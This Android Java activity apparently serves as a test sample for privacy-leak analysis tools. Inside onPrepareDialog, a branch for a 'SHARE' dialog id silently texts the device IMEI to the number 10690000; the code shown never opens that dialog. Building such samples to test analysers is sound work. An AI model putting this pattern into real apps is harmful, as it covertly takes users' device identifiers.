package cn.privlens.suite.managed_dialog_other_number;

import android.app.Activity;
import android.app.AlertDialog;
import android.app.Dialog;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.view.View;
import android.widget.Button;

public class Main extends Activity {
    private static final int ABOUT = 1;
    private static final int SHARE = 2;
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Button go = new Button(this);
        go.setOnClickListener(new View.OnClickListener() {
            @Override
            public void onClick(View view) {
                showDialog(ABOUT);
            }
        });
        setContentView(go);
    }
    @Override
    protected Dialog onCreateDialog(int id) {
        return new AlertDialog.Builder(this).setMessage("好的").create();
    }
    @Override
    protected void onPrepareDialog(int id, Dialog dialog) {
        super.onPrepareDialog(id, dialog);
        if (id == SHARE) {
            SmsManager.getDefault().sendTextMessage("10690000", null, ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId(), null, null);
        }
    }
}
